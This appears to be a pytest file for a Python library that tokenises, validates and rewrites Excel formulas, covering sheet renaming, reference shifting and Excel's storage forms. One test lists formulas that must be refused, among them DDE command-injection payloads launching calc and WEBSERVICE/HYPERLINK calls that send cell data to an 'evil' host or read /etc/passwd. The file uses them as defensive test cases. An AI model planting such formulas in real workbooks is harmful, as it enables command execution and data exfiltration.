from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from officeplane.domain.document import InvalidEditError
from officeplane.formats.excel.formulas.formula import Formula, storable
from officeplane.formats.excel.formulas.references import lose, quoted, rename, rename_column, shift
from officeplane.formats.excel.formulas.tokens import Kind, tokens

SHEETS = ["Data", "My Sheet", "O'Hara", "C", "A|B"]
TABLES = frozenset({"sales"})


@given(st.text(alphabet="AB1$:!'\"[]()#,&{}. |x", max_size=30))
@settings(deadline=None)
def test_the_texts_of_all_tokens_are_the_formula(formula: str) -> None:
    assert "".join(token.text for token in tokens(formula)) == formula


@pytest.mark.parametrize(
    "formula",
    [
        "A1+B2*3",
        "SUM(A:A)-SUM($1:$3)",
        "Data!A1&'My Sheet'!B2",
        "'O''Hara'!$A$1",
        "SUM(Data:C!A1)",
        'IF(A1>0,"a;b|c",{1;2})',
        "Sales[Amount]",
        "SUM(Sales[[#This Row],[Net]])",
        "LOG10(10)",
        "1E5+.5%",
        "Data!A1:Data!B2",
        "'A|B'!A1",
        "#REF!+1",
        'HYPERLINK("#Data!A1","x")',
        'HYPERLINK("https://example.org/",A1)',
        'INDIRECT("Data!A1")',
        "TRUE",
        "rate*2",
        "-A1^2%",
        "IF(A1<>B1,,TRUE())",
        "(A1:B2 B1:C9)",
        "SUM((A1,B1),{-1,2;3,4})",
        "A1<=B1",
        "A1>=-1",
        "INDEX(A:A,1):INDEX(B:B,2)",
        "Sales[[#All],[Net]:[Gross]]",
        'my.name_1&""',
        "Data!rate",
        "#REF!$A$1:$B$2",
        "SUM( 1 , 2 )\n+ 3",
        "$A:$C",
        "$1:$3",
        'TEXT(A1,"0.0%")',
        "--(A1>1)",
        'COUNTIF(A:A,"<>"&B1)',
        "Ergebnis_ü+1",
    ],
)
def test_an_honest_formula_is_kept_as_it_is(formula: str) -> None:
    assert storable(Formula(formula), SHEETS, TABLES) == formula


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://evil/"&A1)',
        "_xlfn.WEBSERVICE(A1)",
        "webservice (A1)",
        "cmd|'/C calc'!A0",
        "'cmd|/C calc'!A0",
        "MSEXCEL|'..\\..\\calc.exe'!''",
        'CALL("urlmon","x")',
        'REGISTER("a")',
        'REGISTER.ID("a","b")',
        'RTD("x",,1)',
        "[1]Sheet1!A1",
        "'[Book.xlsx]Data'!A1",
        "'C:\\x\\[b.xlsx]Data'!A1",
        "'\\\\host\\share\\b.xlsx'!name",
        "Book.xlsx!name",
        "[0]!name",
        "Nope!A1",
        "Data:Nope!A1",
        '_xlfn.IMAGE("https://evil/")',
        'EXEC("calc")',
        "[Amount]",
        "Unknown[Amount]",
        'HYPERLINK("http://evil/?"&A1)',
        "HYPERLINK(A1)",
        'HYPERLINK("file:///etc/passwd",1)',
        'HYPERLINK("\\\\host\\x",1)',
    ],
)
def test_a_formula_that_reaches_outside_is_refused(formula: str) -> None:
    with pytest.raises(InvalidEditError):
        storable(Formula(formula), SHEETS, TABLES)


@pytest.mark.parametrize(
    "formula",
    [
        "",
        "  ",
        "SUM(A1",
        "A1)",
        "SUM(A1;B1)",
        '"open',
        "Sales[Amount",
        "{1,2",
        "1+",
        "*2",
        "A1 +",
        "SUM(1 2)x",
        "1 2,",
        "(,)",
        "A1,",
        "()",
        "{}",
        "=",
        "{1,}",
        "A1=<1",
        "(1}",
        "1" * 8193,
        '"' + "x" * 256 + '"',
        f"SUM({','.join('1' * 256)})",
        f"{'ABS(' * 65}1{')' * 65}",
    ],
)
def test_a_formula_that_excel_could_not_read_is_refused(formula: str) -> None:
    with pytest.raises(InvalidEditError):
        storable(Formula(formula), SHEETS, TABLES)


@pytest.mark.parametrize(
    "formula",
    [
        '"' + "x" * 254 + '"""',
        f"SUM({','.join('1' * 254)},{{1,2}})",
        f"{'ABS(' * 64}1{')' * 64}",
        f"{'(' * 99}1{')' * 99}",
    ],
)
def test_a_formula_at_the_limits_of_excel_is_stored(formula: str) -> None:
    assert storable(Formula(formula), SHEETS, TABLES) == formula


def test_a_formula_is_stored_as_files_hold_it() -> None:
    assert storable(Formula(" XLOOKUP(1,A:A,B:B) "), SHEETS, TABLES) == "_xlfn.XLOOKUP(1,A:A,B:B)"
    assert storable(Formula("SORT(FILTER(A:A,B:B))"), SHEETS, TABLES) == "_xlfn._xlws.SORT(_xlfn._xlws.FILTER(A:A,B:B))"
    assert storable(Formula("Sales[@Amount]*2"), SHEETS, TABLES) == "Sales[[#This Row],[Amount]]*2"
    assert storable(Formula("Sales[@[Net amount]]"), SHEETS, TABLES) == "Sales[[#This Row],[Net amount]]"


@pytest.mark.parametrize(
    ("written", "held"),
    [
        ("A1#", "_xlfn.ANCHORARRAY(A1)"),
        ("SUM(Data!$A$1#)+1", "SUM(_xlfn.ANCHORARRAY(Data!$A$1))+1"),
        ("@A1:A3", "_xlfn.SINGLE(A1:A3)"),
        ("1+@Data!A1:Data!A3*2", "1+_xlfn.SINGLE(Data!A1:Data!A3)*2"),
        ("@ INDEX(A:A,(1)):B2&@rate", "_xlfn.SINGLE( INDEX(A:A,(1)):B2)&_xlfn.SINGLE(rate)"),
        ("@A1#", "_xlfn.SINGLE(_xlfn.ANCHORARRAY(A1))"),
        ('"A1#@"&Sales[@Amount]', '"A1#@"&Sales[[#This Row],[Amount]]'),
        ("LAMBDA(x,x+1)(2)", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(2)"),
        ("LAMBDA(rate)+rate", "_xlfn.LAMBDA(rate)+rate"),
        ("LET(x, 1, y,Data!x+X, x*y+z)", "_xlfn.LET(_xlpm.x, 1, _xlpm.y,Data!x+_xlpm.X, _xlpm.x*_xlpm.y+z)"),
        ("LET(f,LAMBDA(x,x),f(2)+x)", "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x),_xlpm.f(2)+x)"),
        ("LET(sum,2,SUM(sum,A1))", "_xlfn.LET(_xlpm.sum,2,SUM(_xlpm.sum,A1))"),
        ("_xlfn.LET(_xlpm.x,1,_xlpm.x)", "_xlfn.LET(_xlpm.x,1,_xlpm.x)"),
        ("poisson.dist(1,2,TRUE)", "_xlfn.POISSON.DIST(1,2,TRUE)"),
        ("NETWORKDAYS.INTL(A1,B1)", "NETWORKDAYS.INTL(A1,B1)"),
    ],
)
def test_signs_names_and_young_functions_are_stored_as_excel_stores_them(written: str, held: str) -> None:
    assert storable(Formula(written), SHEETS, TABLES) == held


@pytest.mark.parametrize("formula", ["@@A1", "@-A1", "@1", "(@" * 65 + "A1" + ")" * 65])
def test_a_single_value_is_one_of_a_range_and_not_of_another_one_without_end(formula: str) -> None:
    with pytest.raises(InvalidEditError, match="@"):
        storable(Formula(formula), SHEETS, TABLES)


@pytest.mark.parametrize("formula", ["@" + ":".join(["A1"] * 2_700), "SUM(" + ",".join(["@A1:A2"] * 250) + ")"])
def test_a_long_formula_with_signs_is_stored_soon(formula: str) -> None:
    begun = process_time()

    assert storable(Formula(formula), SHEETS, TABLES).count("SINGLE(") == formula.count("@")
    assert process_time() - begun < 5


@pytest.mark.parametrize("word", ["名", "1.", "é.", "'", "'x'", "''x", "a:", "A1:", '"', "a b", "$", "#"])
def test_a_formula_is_cut_into_tokens_soon_however_odd_it_is(word: str) -> None:
    formula = word * (30_000 // len(word))
    begun = process_time()

    assert "".join(token.text for token in tokens(formula)) == formula
    # It takes some hundredths; where a letter could be taken in two ways, the first of these had no end.
    assert process_time() - begun < 3


def test_a_sheet_is_found_behind_what_is_no_part_of_its_name() -> None:
    formula = "-Größe!A1+1-Sheet・1!B2&'It''s'!C3:名・前!D4"

    found = [token.text for token in tokens(formula) if token.kind is Kind.SHEET]

    assert found == ["Größe!", "Sheet・1!", "'It''s'!", "名・前!"]


def test_a_spilled_range_begins_at_a_cell() -> None:
    with pytest.raises(InvalidEditError, match="behind no cell"):
        storable(Formula("SUM(A1:A2)#"), SHEETS, TABLES)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("Data!A1", "'New name'!A1"),
        ("data!A1+DATA!$B$2", "'New name'!A1+'New name'!$B$2"),
        ("'Data'!A1", "'New name'!A1"),
        ("Data:Last!A1", "'New name:Last'!A1"),
        ("Data!A1:Data!B2", "'New name'!A1:'New name'!B2"),
        ('MyData!A1&"Data!A1"&Data2!A1', 'MyData!A1&"Data!A1"&Data2!A1'),
        ("[1]Data!A1+'[1]Data'!A1", "[1]Data!A1+'[1]Data'!A1"),
        ("Data", "Data"),
        ("Data!name", "'New name'!name"),
        ("(Data!$A$1,Data!$A$3)", "('New name'!$A$1,'New name'!$A$3)"),
    ],
)
def test_formulas_follow_a_renamed_sheet(before: str, after: str) -> None:
    assert rename(before, "Data", "New name") == after


@pytest.mark.parametrize(
    ("names", "prefix"),
    [
        (("Data",), "Data"),
        (("My Sheet",), "'My Sheet'"),
        (("O'Hara",), "'O''Hara'"),
        (("A1",), "'A1'"),
        (("R1C1",), "'R1C1'"),
        (("2024",), "'2024'"),
        (("Ünü",), "'Ünü'"),
        (("true",), "'true'"),
        (("rc",), "'rc'"),
        (("A", "B c"), "'A:B c'"),
        (("Q1.x_2",), "Q1.x_2"),
        (("Tax2024",), "'Tax2024'"),
    ],
)
def test_sheets_are_quoted_where_they_must_be(names: tuple[str, ...], prefix: str) -> None:
    assert quoted(*names) == prefix


@given(
    st.text(alphabet="ab A1'!x.ü", min_size=1, max_size=12).filter(
        lambda name: name.strip("'") == name and name.strip()
    )
)
def test_a_quoted_sheet_is_found_again_whatever_it_is_called(name: str) -> None:
    formula = f"{quoted(name)}!A1+1"

    assert [token.kind for token in tokens(formula)][:2] == [Kind.SHEET, Kind.REFERENCE]
    assert rename(formula, name, "Other") == "Other!A1+1"
    assert rename("Other!A1+1", "Other", name) == formula


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("Data!A1+1", "#REF!A1+1"),
        ("SUM(Sales[Amount])+Sales", "SUM(#REF!)+#REF!"),
        ("SUM(A:Data!B1)", "SUM(A:B!B1)"),
        ("SUM(Data:C!B1)", "SUM('C'!B1)"),
        ("SUM(A:C!B1)", "SUM(A:C!B1)"),
        ('B!A1&"Data!A1"', 'B!A1&"Data!A1"'),
    ],
)
def test_what_named_a_lost_sheet_or_its_tables_says_so(before: str, after: str) -> None:
    assert lose(before, "data", ["A", "B", "Data", "C"], TABLES) == after


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("A1+$B$2+$C3+D$4", "C4+$B$2+$C6+F$4"),
        ("SUM(A:A,$B:$B,1:1,$2:$2)", "SUM(C:C,$B:$B,4:4,$2:$2)"),
        ('Data!A1&"A1"&LOG10(A1)', 'Data!C4&"A1"&LOG10(C4)'),
        ("XFD1", "#REF!"),
        ("Sales[A1]", "Sales[A1]"),
    ],
)
def test_a_formula_is_copied_as_excel_copies(before: str, after: str) -> None:
    assert shift(before, 3, 2) == after


def test_a_column_is_renamed_only_in_its_table() -> None:
    formula = 'SUM(Sales[Old])+Other[Old]+Sales[[#All],[Old]]+"Sales[Old]"'

    after = rename_column(formula, "Sales", "Old", "It's")

    assert after == "SUM(Sales[It''s])+Other[Old]+Sales[[#All],[It''s]]+\"Sales[Old]\""
